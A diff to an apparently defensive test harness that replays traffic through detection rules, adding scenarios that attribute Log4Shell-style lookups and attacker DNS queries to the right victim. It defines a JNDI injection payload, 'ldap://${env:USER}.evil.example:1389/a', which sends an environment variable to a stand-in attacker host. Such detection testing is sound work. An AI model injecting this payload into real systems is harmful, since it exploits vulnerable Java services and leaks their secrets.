@@ -322,6 +322,38 @@ def old_answer(tale, twin):
     tale.refused()
 
 
+PAYLOAD = "ldap://${env:USER}.evil.example:1389/a"
+
+
+@row("a resolver asks for a name with a value, for one of two victims", [(VICTIM, "attempted"), (OTHER, "vulnerable or 10.0.0.1")],
+     [(VICTIM, "vulnerable"), (OTHER, "attempted")])
+def one_of_two(tale, twin):
+    tale.lookup(PAYLOAD)
+    tale.lookup(PAYLOAD, victim=OTHER)
+    if twin:
+        tale.asks("tomcat.evil.example")
+    tale.asks("tomcat.evil.example", RESOLVER, EVIL, server="192.0.2.53")
+
+
+@row("the same, and the other one calls", [(VICTIM, "vulnerable"), (OTHER, "vulnerable or 10.0.0.1")],
+     [(VICTIM, "attempted"), (OTHER, "vulnerable")])
+def one_calls(tale, twin):
+    tale.lookup(PAYLOAD)
+    tale.lookup(PAYLOAD, victim=OTHER)
+    tale.asks("tomcat.evil.example", RESOLVER, EVIL, server="192.0.2.53")
+    tale.refused(OTHER if twin else VICTIM)
+
+
+@row("a value of another victim than the one that told its own", [(VICTIM, "vulnerable"), (OTHER, "vulnerable")],
+     [(VICTIM, "attempted"), (OTHER, "vulnerable or 10.0.0.1")])
+def one_left(tale, twin):
+    tale.lookup(PAYLOAD)
+    tale.lookup(PAYLOAD, victim=OTHER)
+    if not twin:
+        tale.asks("tomcat.evil.example")
+    tale.asks("root.evil.example", RESOLVER, EVIL, server="192.0.2.53")
+
+
 def victims_of(text):
     """{incident: victim}: whom its first alert was about."""
     victims = {}
@@ -335,7 +367,9 @@ def judge(program, path, expected):
     text = lab.replay(program, path, extra=("-s", str(lab.TOP / "rules/incidents.rules"),
                                             "--set", "vars.address-groups.LDAP_ALLOWED=[%s]" % PARTNER))
     victims, lines = victims_of(text), []
-    found = [(story.get("victim") or victims[number], story["verdict"]) for number, story in lab.incidents(text).items()]
+    found = [(story.get("victim") or victims[number],
+              " or ".join([story["verdict"]] + [other["victim"] for other in story.get("candidates", [])]))
+             for number, story in lab.incidents(text).items()]
     if sorted(found) != sorted(expected):
         lines.append("expected %s, found %s" % (expected, found))
     for alert in (event for event in lab.events(text) if event["event_type"] == "alert"):
